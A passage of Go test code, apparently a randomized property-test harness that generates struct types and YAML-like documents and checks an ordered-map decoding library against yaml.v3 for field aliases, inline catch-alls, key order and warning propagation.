			f.Skip = true
		case 1, 2: // untagged: key is the lower-cased field name
			g.names[strings.ToLower(f.Name)] = true
		default:
			f.Key = g.freshKey()
		}
		f.Omit = g.r.IntN(4) == 0 && !f.Skip
		if !f.Skip && !g.aliasFree && g.r.IntN(3) == 0 {
			for k, n := 0, 1+g.r.IntN(3); k < n; k++ {
				f.Aliases = append(f.Aliases, g.freshKey())
			}
		}
		if f.Kind == "struct" || f.Kind == "*struct" {
			f.Sub = g.typ(depth+1, true)
		}
		t.Fields = append(t.Fields, f)
	}
	if allowInline {
		switch g.r.IntN(6) {
		case 0, 1, 2:
			t.Inline = "map"
		case 3:
			t.Inline = "struct"
			t.InlineSub = g.typ(depth+1, depth < 1)
		case 4:
			t.Inline = "*struct"
			t.InlineSub = g.typ(depth+1, depth < 1)
		}
		t.InlineAt = g.r.IntN(len(t.Fields) + 1)
	}
	return t
}

// supportsV3 reports whether yaml.v3 can decode into the type the same way:
// no aliases anywhere; inline map directly on a struct, or inline struct
// (by value) without its own catch-all.
func (t *c16Type) supportsV3() bool {
	for _, f := range t.Fields {
		if len(f.Aliases) > 0 {
			return false
		}
		if f.Sub != nil && !f.Sub.supportsV3() {
			return false
		}
	}
	switch t.Inline {
	case "struct":
		if t.InlineSub.Inline != "" || !t.InlineSub.supportsV3() {
			return false
		}
	case "*struct":
		return false
	}
	return true
}

// value generation --------------------------------------------------------

func (g *c16Gen) anyValue(depth int) *doc.Node {
	if depth > 2 || g.r.IntN(3) != 0 {
		switch g.r.IntN(5) {
		case 0:
			return doc.I(int64(g.r.IntN(100)))
		case 1:
			return doc.B(g.r.IntN(2) == 0)
		case 2:
			return doc.F(float64(g.r.IntN(100)) + 0.5)
		}
		g.n++
		return doc.S(fmt.Sprintf("s%d", g.n))
	}
	if g.r.IntN(2) == 0 {
		l := doc.L()
		l.Seq = []*doc.Node{}
		for i, n := 0, g.r.IntN(4); i < n; i++ {
			l.Seq = append(l.Seq, g.anyValue(depth+1))
		}
		return l
	}
	m := doc.M()
	m.Map = []doc.Pair{}
	for i, n := 0, g.r.IntN(4); i < n; i++ {
		g.n++
		m.Map = append(m.Map, doc.P(fmt.Sprintf("m%d", g.n), g.anyValue(depth+1)))
	}
	return m
}

// wellTyped draws a well-typed document value for a field kind.
// strict (yaml.v3-comparable) avoids scalar-to-slice and scalar-to-string conversions.
func (g *c16Gen) wellTyped(f c16Field, strict bool, plan *c16Plan) *doc.Node {
	str := func() *doc.Node { g.n++; return doc.S(fmt.Sprintf("v%d", g.n)) }
	switch f.Kind {
	case "string":
		if !strict {
			switch g.r.IntN(6) {
			case 0:
				return doc.I(int64(g.r.IntN(100)))
			case 1:
				return doc.B(true)
			case 2:
				return doc.F(1.5)
			}
		}
		if g.r.IntN(8) == 0 {
			return doc.S("") // a key that is present with the empty string is present
		}
		return str()
	case "int":
		if g.r.IntN(8) == 0 {
			return doc.I(0)
		}
		return doc.I(int64(g.r.IntN(1000)) - 500)
	case "float":
		if g.r.IntN(8) == 0 {
			return doc.F(0)
		}
		return doc.F(float64(g.r.IntN(100)) + 0.25)
	case "bool":
		return doc.B(g.r.IntN(2) == 0)
	case "[]string":
		if !strict && g.r.IntN(4) == 0 {
			return str() // scalar appended to the slice
		}
		l := doc.L()
		l.Seq = []*doc.Node{}
		for i, n := 0, g.r.IntN(4); i < n; i++ {
			if !strict && g.r.IntN(5) == 0 {
				l.Seq = append(l.Seq, doc.I(int64(i)))
			} else {
				l.Seq = append(l.Seq, str())
			}
		}
		return l
	case "[]int":
		l := doc.L()
		l.Seq = []*doc.Node{}
		for i, n := 0, g.r.IntN(4); i < n; i++ {
			l.Seq = append(l.Seq, doc.I(int64(g.r.IntN(50))))
		}
		return l
	case "[]any":
		l := doc.L()
		l.Seq = []*doc.Node{}
		for i, n := 0, g.r.IntN(4); i < n; i++ {
			l.Seq = append(l.Seq, g.anyValue(1))
		}
		return l
	case "map[string]string":
		m := doc.M()
		m.Map = []doc.Pair{}
		for i, n := 0, g.r.IntN(4); i < n; i++ {
			g.n++
			m.Map = append(m.Map, doc.P(fmt.Sprintf("e%d", g.n), str()))
		}
		return m
	case "map[string]any":
		m := doc.M()
		m.Map = []doc.Pair{}
		for i, n := 0, g.r.IntN(4); i < n; i++ {
			g.n++
			m.Map = append(m.Map, doc.P(fmt.Sprintf("e%d", g.n), g.anyValue(1)))
		}
		return m
	case "any":
		return g.anyValue(0)
	case "struct", "*struct":
		sub := &c16Plan{}
		plan.sub[f.Name] = sub
		return g.document(f.Sub, strict, sub)
	}
	return doc.Null()
}

// c16Plan records, per struct level, how each field was addressed.
type c16Plan struct {
	how       map[string]string // field name -> primary | alias | absent | null
	sub       map[string]*c16Plan
	inlineSub *c16Plan
}

// document draws a well-typed mapping for a type, with extra keys.
func (g *c16Gen) document(t *c16Type, strict bool, plan *c16Plan) *doc.Node {
	plan.how = map[string]string{}
	plan.sub = map[string]*c16Plan{}
	m := doc.M()
	m.Map = []doc.Pair{}
	for _, f := range t.Fields {
		if f.Skip {
			// a key named like the skipped field: must go to the catch-all
			if g.r.IntN(3) == 0 {
				m.Map = append(m.Map, doc.P(strings.ToLower(f.Name), doc.S("for-the-catch-all")))
			}
			continue
		}
		if f.Key != "" && g.r.IntN(6) == 0 {
			// the field answers to its tag only: its lower-cased Go name is an ordinary leftover key
			m.Map = append(m.Map, doc.P(strings.ToLower(f.Name), doc.S("not-the-tag-name")))
		}
		x := g.r.IntN(10)
		switch {
		case x < 5:
			plan.how[f.Name] = "primary"
			m.Map = append(m.Map, doc.P(f.key(), g.wellTyped(f, strict, plan)))
			// an alias next to the primary is an ordinary leftover key
			if len(f.Aliases) > 0 && g.r.IntN(2) == 0 {
				m.Map = append(m.Map, doc.P(f.Aliases[g.r.IntN(len(f.Aliases))], doc.S("alias-next-to-primary")))
			}
		case x < 7 && len(f.Aliases) > 0:
			plan.how[f.Name] = "alias"
			// several aliases present: the first in tag order wins, the others are leftovers
			first := g.r.IntN(len(f.Aliases))
			m.Map = append(m.Map, doc.P(f.Aliases[first], g.wellTyped(f, strict, plan)))
			for k := first + 1; k < len(f.Aliases); k++ {
				if g.r.IntN(2) == 0 {
					m.Map = append(m.Map, doc.P(f.Aliases[k], doc.S("later-alias")))
				}
			}
		case x == 8 && !strict:
			plan.how[f.Name] = "null"
			m.Map = append(m.Map, doc.P(f.key(), doc.Null()))
			// an alias next to an explicitly null primary is still just a leftover key
			if len(f.Aliases) > 0 && g.r.IntN(2) == 0 {
				m.Map = append(m.Map, doc.P(f.Aliases[g.r.IntN(len(f.Aliases))], doc.S("alias-next-to-null-primary")))
			}
		default:
			plan.how[f.Name] = "absent"
		}
	}
	// extra keys for the catch-all; now and then a mapping of well over 64 entries (the fields' own keys then sit
	// anywhere among them after the shuffle below)
	nExtra := g.r.IntN(4)
	if g.r.IntN(25) == 0 {
		nExtra = 66 + g.r.IntN(80)
	}
	for i, n := 0, nExtra; i < n; i++ {
		k := g.freshKey()
		if g.r.IntN(8) == 0 && !m.Has("") {
			k = ""
		}
		if t.Inline != "" && g.r.IntN(5) == 0 && !m.Has("rest") {
			k = "rest" // spelled like the lower-cased Go name of the inline field: an ordinary leftover key all the same
		}
		m.Map = append(m.Map, doc.P(k, g.anyValue(1)))
	}
	// keys for an inline struct
	if t.Inline == "struct" || t.Inline == "*struct" {
		plan.inlineSub = &c16Plan{}
		inner := g.document(t.InlineSub, strict, plan.inlineSub)
		for _, p := range inner.Map {
			if !m.Has(p.Key) {
				m.Map = append(m.Map, p)
			}
		}
	}
	g.r.Shuffle(len(m.Map), func(i, j int) { m.Map[i], m.Map[j] = m.Map[j], m.Map[i] })
	return m
}

// sentinels -------------------------------------------------------------

func c16Sentinel(f c16Field) (reflect.Value, *doc.Node) {
	switch f.Kind {
	case "string":
		return reflect.ValueOf("SENTINEL"), doc.S("SENTINEL")
	case "int":
		return reflect.ValueOf(-777), doc.I(-777)
	case "float":
		return reflect.ValueOf(-7.75), doc.F(-7.75)
	case "bool":
		return reflect.ValueOf(true), doc.B(true)
	case "[]string":
		return reflect.ValueOf([]string{"SENTINEL"}), doc.L(doc.S("SENTINEL"))
	case "[]int":
		return reflect.ValueOf([]int{-777}), doc.L(doc.I(-777))
	case "[]any":
		return reflect.ValueOf([]any{"SENTINEL"}), doc.L(doc.S("SENTINEL"))
	case "map[string]string":
		return reflect.ValueOf(map[string]string{"SENTINEL": "S"}), doc.M(doc.P("SENTINEL", doc.S("S")))
	case "map[string]any":
		return reflect.ValueOf(map[string]any{"SENTINEL": "S"}), doc.M(doc.P("SENTINEL", doc.S("S")))
	case "any":
		return reflect.ValueOf("SENTINEL"), doc.S("SENTINEL")
	}
	return reflect.Value{}, nil
}

// prepare pre-populates dst (a struct value of t's Go type) according to the
// plan - sentinels where a field must stay untouched or be zeroed - and
// returns the expected tree.
func c16Expect(t *c16Type, dst reflect.Value, m *doc.Node, plan *c16Plan, prepopulate bool) *doc.Node {
	exp := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	consumed := map[string]bool{}
	for _, f := range t.Fields {
		fv := dst.FieldByName(f.Name)
		var src *doc.Node
		found := false
		if !f.Skip {
			if v, ok := m.Get(f.key()); ok {
				src, found = v, true
				consumed[f.key()] = true
			} else {
				for _, a := range f.Aliases {
					if v, ok := m.Get(a); ok {
						src, found = v, true
						consumed[a] = true
						break
					}
				}
			}
		}
		switch {
		case !found:
			// untouched
			if f.Kind == "struct" || f.Kind == "*struct" {
				exp.Map = append(exp.Map, doc.P(f.Name, doc.Null()))
				if f.Kind == "struct" {
					exp.Map[len(exp.Map)-1].Val = c16ZeroStruct(f.Sub)
				}
				continue
			}
			if prepopulate {
				sv, sd := c16Sentinel(f)
				fv.Set(sv)
				exp.Map = append(exp.Map, doc.P(f.Name, sd))
			} else {
				exp.Map = append(exp.Map, doc.P(f.Name, c16Zero(f)))
			}
		case src.Kind == doc.KNull:
			// zeroed
			if prepopulate && f.Kind != "struct" && f.Kind != "*struct" {
				sv, _ := c16Sentinel(f)
				fv.Set(sv)
			}
			if f.Kind == "*struct" && prepopulate {
				fv.Set(reflect.New(f.Sub.goType()))
			}
			exp.Map = append(exp.Map, doc.P(f.Name, c16Zero(f)))
		default:
			switch f.Kind {
			case "struct":
				exp.Map = append(exp.Map, doc.P(f.Name, c16Expect(f.Sub, fv, src, plan.sub[f.Name], prepopulate)))
			case "*struct":
				if prepopulate && len(f.Name)%2 == 0 {
					fv.Set(reflect.New(f.Sub.goType())) // existing target is reused
				}
				inner := fv
				if fv.IsNil() {
					tmp := reflect.New(f.Sub.goType())
					exp.Map = append(exp.Map, doc.P(f.Name, c16Expect(f.Sub, tmp.Elem(), src, plan.sub[f.Name], false)))
				} else {
					inner = fv.Elem()
					exp.Map = append(exp.Map, doc.P(f.Name, c16Expect(f.Sub, inner, src, plan.sub[f.Name], prepopulate)))
				}
			default:
				if prepopulate {
					switch f.Kind {
					case "string", "int", "float", "bool", "any":
						// a stale value in a field the document addresses: it is overwritten, also by "", 0 or false
						sv, _ := c16Sentinel(f)
						fv.Set(sv)
					}
				}
				exp.Map = append(exp.Map, doc.P(f.Name, c16Conv(f, src)))
			}
		}
	}
	// leftovers
	left := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	for _, p := range m.Map {
		if !consumed[p.Key] {
			left.Map = append(left.Map, p)
		}
	}
	switch t.Inline {
	case "map":
		e := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		if prepopulate {
			dst.FieldByName("Rest").Set(reflect.ValueOf(map[string]any{"PRE": "existing"}))
			e.Map = append(e.Map, doc.P("PRE", doc.S("existing")))
		}
		for _, p := range left.Map {
			e.Map = append(e.Map, doc.P(p.Key, p.Val.Clone()))
		}
		exp.Map = append(exp.Map, doc.P("Rest", e))
	case "struct":
		rv := dst.FieldByName("Rest")
		if len(left.Map) == 0 {
			exp.Map = append(exp.Map, doc.P("Rest", c16Expect(t.InlineSub, rv, left, &c16Plan{sub: map[string]*c16Plan{}}, prepopulate)))
		} else {
			exp.Map = append(exp.Map, doc.P("Rest", c16Expect(t.InlineSub, rv, left, orPlan(plan.inlineSub), prepopulate)))
		}
	case "*struct":
		rv := dst.FieldByName("Rest")
		if prepopulate || len(left.Map) > 0 {
			// the repository's own pattern pre-populates the inline pointer; a nil one is created on demand
			if prepopulate {
				rv.Set(reflect.New(t.InlineSub.goType()))
			}
		}
		switch {
		case rv.IsNil() && len(left.Map) == 0:
			exp.Map = append(exp.Map, doc.P("Rest", doc.Null()))
		case rv.IsNil():
			tmp := reflect.New(t.InlineSub.goType())
			exp.Map = append(exp.Map, doc.P("Rest", c16Expect(t.InlineSub, tmp.Elem(), left, orPlan(plan.inlineSub), false)))
		default:
			exp.Map = append(exp.Map, doc.P("Rest", c16Expect(t.InlineSub, rv.Elem(), left, orPlan(plan.inlineSub), prepopulate)))
		}
	}
	return exp
}

func orPlan(p *c16Plan) *c16Plan {
	if p == nil {
		return &c16Plan{sub: map[string]*c16Plan{}, how: map[string]string{}}
	}
	return p
}

func c16Zero(f c16Field) *doc.Node {
	switch f.Kind {
	case "string":
		return doc.S("")
	case "int":
		return doc.I(0)
	case "float":
		return doc.F(0)
	case "bool":
		return doc.B(false)
	case "struct":
		return c16ZeroStruct(f.Sub)
	}
	return doc.Null()
}

func c16ZeroStruct(t *c16Type) *doc.Node {
	n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	for _, f := range t.Fields {
		n.Map = append(n.Map, doc.P(f.Name, c16Zero(f)))
	}
	switch t.Inline {
	case "map", "*struct":
		n.Map = append(n.Map, doc.P("Rest", doc.Null()))
	case "struct":
		n.Map = append(n.Map, doc.P("Rest", c16ZeroStruct(t.InlineSub)))
	}
	return n
}

// c16Conv is the documented conversion of a well-typed source value.
func c16Conv(f c16Field, src *doc.Node) *doc.Node {
	switch f.Kind {
	case "string":
		return doc.S(scalarSprint(src))
	case "[]string":
		l := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		if src.Kind == doc.KSeq {
			for _, e := range src.Seq {
				l.Seq = append(l.Seq, doc.S(scalarSprint(e)))
			}
		} else {
			l.Seq = append(l.Seq, doc.S(scalarSprint(src)))
		}
		return l
	}
	return src.Clone()
}

func scalarSprint(n *doc.Node) string {
	switch n.Kind {
	case doc.KStr:
		return n.Str
	case doc.KInt:
		return fmt.Sprint(n.Int)
	case doc.KBool:
		return fmt.Sprint(n.Bool)
	case doc.KFloat:
		return fmt.Sprint(n.Float)
	}
	return ""
}

// valToDoc converts a decoded Go value: structs by field name, maps sorted,
// ordered maps as plain maps, empty containers and nil folded to null.
func valToDoc(v reflect.Value) *doc.Node {
	if !v.IsValid() {
		return doc.Null()
	}
	if v.CanInterface() {
		if om, ok := v.Interface().(*ordered.MapSA); ok {
			if om == nil || om.Len() == 0 {
				return doc.Null()
			}
			n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
			_ = om.Range(func(k string, e any) error {
				n.Map = append(n.Map, doc.P(k, valToDoc(reflect.ValueOf(e))))
				return nil
			})
			return n
		}
	}
	switch v.Kind() {
	case reflect.Interface, reflect.Pointer:
		if v.IsNil() {
			return doc.Null()
		}
		return valToDoc(v.Elem())
	case reflect.Struct:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for i := 0; i < v.NumField(); i++ {
			n.Map = append(n.Map, doc.P(v.Type().Field(i).Name, valToDoc(v.Field(i))))
		}
		return n
	case reflect.Map:
		if v.Len() == 0 {
			return doc.Null()
		}
		keys := v.MapKeys()
		sort.Slice(keys, func(i, j int) bool { return fmt.Sprint(keys[i]) < fmt.Sprint(keys[j]) })
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for _, k := range keys {
			n.Map = append(n.Map, doc.P(fmt.Sprint(k.Interface()), valToDoc(v.MapIndex(k))))
		}
		return n
	case reflect.Slice:
		if v.Len() == 0 {
			return doc.Null()
		}
		n := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for i := 0; i < v.Len(); i++ {
			n.Seq = append(n.Seq, valToDoc(v.Index(i)))
		}
		return n
	case reflect.String:
		return doc.S(v.String())
	case reflect.Bool:
		return doc.B(v.Bool())
	case reflect.Int, reflect.Int64:
		return doc.I(v.Int())
	case reflect.Float64:
		return doc.F(v.Float())
	}
	return doc.S(fmt.Sprintf("<%s>", v.Type()))
}

// foldEmpty folds empty containers of an expected tree to null, like valToDoc does.
// valToDocStrict is valToDoc with nil and empty containers told apart (nil -> null, empty -> empty).
func valToDocStrict(v reflect.Value) *doc.Node {
	if !v.IsValid() {
		return doc.Null()
	}
	if v.CanInterface() {
		if om, ok := v.Interface().(*ordered.MapSA); ok {
			if om == nil {
				return doc.Null()
			}
			n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
			_ = om.Range(func(k string, e any) error {
				n.Map = append(n.Map, doc.P(k, valToDocStrict(reflect.ValueOf(e))))
				return nil
			})
			sort.Slice(n.Map, func(a, b int) bool { return n.Map[a].Key < n.Map[b].Key })
			return n
		}
	}
	switch v.Kind() {
	case reflect.Interface, reflect.Pointer:
		if v.IsNil() {
			return doc.Null()
		}
		return valToDocStrict(v.Elem())
	case reflect.Struct:
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for i := 0; i < v.NumField(); i++ {
			n.Map = append(n.Map, doc.P(v.Type().Field(i).Name, valToDocStrict(v.Field(i))))
		}
		return n
	case reflect.Map:
		if v.IsNil() {
			return doc.Null()
		}
		keys := v.MapKeys()
		sort.Slice(keys, func(i, j int) bool { return fmt.Sprint(keys[i]) < fmt.Sprint(keys[j]) })
		n := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for _, k := range keys {
			n.Map = append(n.Map, doc.P(fmt.Sprint(k.Interface()), valToDocStrict(v.MapIndex(k))))
		}
		return n
	case reflect.Slice:
		if v.Len() == 0 {
			return doc.Null() // an empty list into a slice field: yaml.v3 makes an empty slice, the library leaves nil - not told apart (see DESIGN, C16 "not demanded")
		}
		n := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for i := 0; i < v.Len(); i++ {
			n.Seq = append(n.Seq, valToDocStrict(v.Index(i)))
		}
		return n
	case reflect.String:
		return doc.S(v.String())
	case reflect.Bool:
		return doc.B(v.Bool())
	case reflect.Int, reflect.Int64:
		return doc.I(v.Int())
	case reflect.Float64:
		return doc.F(v.Float())
	}
	return doc.S(fmt.Sprintf("<%s>", v.Type()))
}

// foldEmpty folds empty containers of an expected tree to null, like valToDoc does.
func foldEmpty(n *doc.Node) *doc.Node {
	switch n.Kind {
	case doc.KSeq:
		if len(n.Seq) == 0 {
			return doc.Null()
		}
		o := &doc.Node{Kind: doc.KSeq}
		for _, e := range n.Seq {
			o.Seq = append(o.Seq, foldEmpty(e))
		}
		return o
	case doc.KMap:
		if len(n.Map) == 0 {
			return doc.Null()
		}
		o := &doc.Node{Kind: doc.KMap}
		for _, p := range n.Map {
			o.Map = append(o.Map, doc.P(p.Key, foldEmpty(p.Val)))
		}
		return o
	}
	return n
}

// Fixed member of the family whose fields are ordered maps with typed values
// (each value is decoded on its own: nothing of one entry may show up in another).
type c16Leaf struct {
	A string   `yaml:"a"`
	B []string `yaml:"b"`
	N int      `yaml:"n"`
}

type c16OrderedFields struct {
	Lists  *ordered.Map[string, []string]          `yaml:"lists"`
	Leaves *ordered.Map[string, *c16Leaf]          `yaml:"leaves"`
	Vals   *ordered.Map[string, c16Leaf]           `yaml:"vals"`
	Maps   *ordered.Map[string, map[string]string] `yaml:"maps"`
	SS     *ordered.MapSS                          `yaml:"ss"`
	Rest   map[string]any                          `yaml:",inline"`
}

type c16PlainFields struct {
	Lists  map[string][]string          `yaml:"lists"`
	Leaves map[string]*c16Leaf          `yaml:"leaves"`
	Vals   map[string]c16Leaf           `yaml:"vals"`
	Maps   map[string]map[string]string `yaml:"maps"`
	SS     map[string]string            `yaml:"ss"`
	Rest   map[string]any               `yaml:",inline"`
}

func c16OrderedPhase(c *run.Ctx) {
	c.Parallel("omap", c.N(3000, 100000), func(i int, r *rand.Rand) {
		id := run.CaseID("omap", i)
		n := 0
		word := func() string { n++; return fmt.Sprintf("w%d", n) }
		list := func() *doc.Node {
			l := doc.L()
			l.Seq = []*doc.Node{}
			for j, m := 0, r.IntN(4); j < m; j++ {
				l.Seq = append(l.Seq, doc.S(word()))
			}
			return l
		}
		leaf := func() *doc.Node {
			m := doc.M()
			m.Map = []doc.Pair{}
			if r.IntN(3) != 0 {
				m.Map = append(m.Map, doc.P("a", doc.S(word())))
			}
			if r.IntN(3) != 0 {
				m.Map = append(m.Map, doc.P("b", list()))
			}
			if r.IntN(3) == 0 {
				n++
				m.Map = append(m.Map, doc.P("n", doc.I(int64(n))))
			}
			return m
		}
		section := func(mk func() *doc.Node) *doc.Node {
			m := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
			for j, k := 0, r.IntN(5); j < k; j++ {
				m.Map = append(m.Map, doc.P(word(), mk()))
			}
			return m
		}
		d := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		for _, sec := range []struct {
			key string
			mk  func() *doc.Node
		}{{"lists", list}, {"leaves", leaf}, {"vals", leaf}, {"maps", func() *doc.Node {
			m := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
			for j, k := 0, r.IntN(3); j < k; j++ {
				m.Map = append(m.Map, doc.P(word(), doc.S(word())))
			}
			return m
		}}, {"ss", func() *doc.Node { return doc.S(word()) }}, {"extra" + word(), list}} {
			if r.IntN(5) != 0 {
				d.Map = append(d.Map, doc.P(sec.key, section(sec.mk)))
			}
		}
		r.Shuffle(len(d.Map), func(a, b int) { d.Map[a], d.Map[b] = d.Map[b], d.Map[a] })
		var got c16OrderedFields
		var uerr error
		if pi := run.Guard(func() { uerr = ordered.Unmarshal(docToAny(d), &got) }); pi != nil {
			c.Violation(id, map[string]any{"what": "Unmarshal panicked: " + pi.Value, "document": d.String(), "stack": pi.Stack})
			return
		}
		c.Eval(1)
		if uerr != nil {
			c.Violation(id, map[string]any{"what": "well-typed document rejected: " + uerr.Error(), "document": d.String()})
			return
		}
		var ref c16PlainFields
		if err := yaml.Unmarshal(doc.ToJSON(d), &ref); err != nil {
			c.Infra("omap: yaml.v3 rejects the document: %v", err)
			return
		}
		// distinct entries never share a pointer
		if got.Leaves != nil {
			seen := map[*c16Leaf]string{}
			bad := ""
			_ = got.Leaves.Range(func(k string, v *c16Leaf) error {
				if prev, dup := seen[v]; dup && v != nil {
					bad = fmt.Sprintf("entries %q and %q of an ordered map of pointers are the same pointer", prev, k)
				}
				seen[v] = k
				return nil
			})
			if bad != "" {
				c.Violation(id, map[string]any{"what": bad, "document": d.String()})
				return
			}
		}
		// same data as yaml.v3's own decoder gives for the plain-map twin, and document order kept
		gd := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
		sect := func(name string, isNil bool, rng func(func(string, any))) {
			if isNil {
				gd.Map = append(gd.Map, doc.P(name, doc.Null()))
				return
			}
			m := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
			rng(func(k string, v any) { m.Map = append(m.Map, doc.P(k, valToDoc(reflect.ValueOf(v)))) })
			gd.Map = append(gd.Map, doc.P(name, m))
		}
		sect("Lists", got.Lists == nil, func(f func(string, any)) {
			_ = got.Lists.Range(func(k string, v []string) error { f(k, v); return nil })
		})
		sect("Leaves", got.Leaves == nil, func(f func(string, any)) {
			_ = got.Leaves.Range(func(k string, v *c16Leaf) error { f(k, v); return nil })
		})
		sect("Vals", got.Vals == nil, func(f func(string, any)) { _ = got.Vals.Range(func(k string, v c16Leaf) error { f(k, v); return nil }) })
		sect("Maps", got.Maps == nil, func(f func(string, any)) {
			_ = got.Maps.Range(func(k string, v map[string]string) error { f(k, v); return nil })
		})
		sect("SS", got.SS == nil, func(f func(string, any)) { _ = got.SS.Range(func(k string, v string) error { f(k, v); return nil }) })
		gd.Map = append(gd.Map, doc.P("Rest", valToDoc(reflect.ValueOf(got.Rest))))
		rd := valToDoc(reflect.ValueOf(ref))
		if diff := doc.Equal(foldEmpty(rd), foldEmpty(gd), doc.EqOpts{}); diff != "" {
			c.Violation(id, map[string]any{"what": "struct with ordered-map fields of typed values: result differs from yaml.v3's decoder on the plain-map twin: " + diff,
				"document": d.String(), "yaml_v3": rd.String(), "go_pipeline": gd.String()})
			return
		}
		for _, sec := range d.Map {
			var keys []string
			switch sec.Key {
			case "lists":
				_ = got.Lists.Range(func(k string, _ []string) error { keys = append(keys, k); return nil })
			case "leaves":
				_ = got.Leaves.Range(func(k string, _ *c16Leaf) error { keys = append(keys, k); return nil })
			case "vals":
				_ = got.Vals.Range(func(k string, _ c16Leaf) error { keys = append(keys, k); return nil })
			case "maps":
				_ = got.Maps.Range(func(k string, _ map[string]string) error { keys = append(keys, k); return nil })
			case "ss":
				_ = got.SS.Range(func(k string, _ string) error { keys = append(keys, k); return nil })
			default:
				continue
			}
			var want []string
			for _, p := range sec.Val.Map {
				want = append(want, p.Key)
			}
			if fmt.Sprint(keys) != fmt.Sprint(want) {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("ordered-map field %q: keys %v, document order %v", sec.Key, keys, want), "document": d.String()})
				return
			}
		}
		c.Count("documents_into_ordered_map_fields", 1)
		c.Feature("omap", len(d.Map))
	})
}

// A member whose elements decode themselves and may answer with a warning: the key still goes to exactly one
// place (the value is stored), and the warning is handed up.
type c16Warny struct {
	V string
}

func (w *c16Warny) UnmarshalOrdered(src any) error {
	w.V = fmt.Sprint(src)
	if strings.HasPrefix(w.V, "warn") {
		return warning.Newf("value %q looks odd", w.V)
	}
	return nil
}

type c16WarnHolder struct {
	A    string                         `yaml:"a"`
	M    map[string]c16Warny            `yaml:"m"`
	L    []c16Warny                     `yaml:"l"`
	OM   *ordered.Map[string, c16Warny] `yaml:"om"`
	Rest map[string]c16Warny            `yaml:",inline"`
}

func c16WarnPhase(c *run.Ctx) {
	c.Parallel("warn", c.N(3000, 100000), func(i int, r *rand.Rand) {
		id := run.CaseID("warn", i)
		n, warns := 0, 0
		val := func() *doc.Node {
			n++
			if r.IntN(3) == 0 {
				warns++
				return doc.S(fmt.Sprintf("warn-%d", n))
			}
			return doc.S(fmt.Sprintf("fine-%d", n))
		}
		mapping := func() *doc.Node {
			m := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
			for j, k := 0, r.IntN(5); j < k; j++ {
				n++
				m.Map = append(m.Map, doc.P(fmt.Sprintf("k%d", n), val()))
			}
			return m
		}
		d := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{doc.P("a", doc.S("x"))}}
		if r.IntN(4) != 0 {
			d.Map = append(d.Map, doc.P("m", mapping()))
		}
		if r.IntN(4) != 0 {
			l := doc.L()
			l.Seq = []*doc.Node{}
			for j, k := 0, r.IntN(5); j < k; j++ {
				l.Seq = append(l.Seq, val())
			}
			d.Map = append(d.Map, doc.P("l", l))
		}
		if r.IntN(4) != 0 {
			d.Map = append(d.Map, doc.P("om", mapping()))
		}
		for j, k := 0, r.IntN(4); j < k; j++ {
			n++
			d.Map = append(d.Map, doc.P(fmt.Sprintf("extra%d", n), val()))
		}
		r.Shuffle(len(d.Map), func(a, b int) { d.Map[a], d.Map[b] = d.Map[b], d.Map[a] })
		var got c16WarnHolder
		var uerr error
		if pi := run.Guard(func() { uerr = ordered.Unmarshal(docToAny(d), &got) }); pi != nil {
			c.Violation(id, map[string]any{"what": "Unmarshal panicked: " + pi.Value, "document": d.String(), "stack": pi.Stack})
			return
		}
		c.Eval(1)
		if uerr != nil && !warning.Is(uerr) {
			c.Violation(id, map[string]any{"what": "document rejected although its elements only warn: " + uerr.Error(), "document": d.String()})
			return
		}
		if (uerr != nil) != (warns > 0) {
			c.Violation(id, map[string]any{"what": fmt.Sprintf("%d elements answered with a warning, Unmarshal returned %v", warns, uerr), "document": d.String()})
			return
		}
		// every key went to exactly one place, with its value
		gd := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{doc.P("a", doc.S(got.A))}}
		plain := func(m map[string]c16Warny) *doc.Node {
			o := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
			for k, v := range m {
				o.Map = append(o.Map, doc.P(k, doc.S(v.V)))
			}
			return o
		}
		for _, p := range d.Map {
			switch p.Key {
			case "a":
			case "m":
				gd.Map = append(gd.Map, doc.P("m", plain(got.M)))
			case "l":
				l := doc.L()
				l.Seq = []*doc.Node{}
				for _, e := range got.L {
					l.Seq = append(l.Seq, doc.S(e.V))
				}
				gd.Map = append(gd.Map, doc.P("l", l))
			case "om":
				o := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
				if got.OM != nil {
					_ = got.OM.Range(func(k string, v c16Warny) error { o.Map = append(o.Map, doc.P(k, doc.S(v.V))); return nil })
				}
				gd.Map = append(gd.Map, doc.P("om", o))
			}
		}
		for k, v := range got.Rest {
			gd.Map = append(gd.Map, doc.P(k, doc.S(v.V)))
		}
		if diff := doc.Equal(d, gd, doc.EqOpts{}); diff != "" {
			c.Violation(id, map[string]any{"what": "elements that decode themselves (some with a warning): not every key and value arrived in exactly one place: " + diff, "document": d.String(), "result": gd.String(), "warning": fmt.Sprint(uerr)})
			return
		}
		c.Count("documents_with_self_decoding_elements", 1)
		if warns > 0 {
			c.Count("documents_with_warning_elements", 1)
		}
	})
}

// Lists decoded into a slice that was emptied in place (length 0, old elements still in the spare capacity): every
// list item is a new value - what an item does not mention is zero, not what an old element happened to hold.
type c16Lists struct {
	Jobs  []c16Leaf  `yaml:"jobs"`
	Ptrs  []*c16Leaf `yaml:"ptrs"`
	Lists [][]string `yaml:"lists"`
}

func c16StalePhase(c *run.Ctx) {
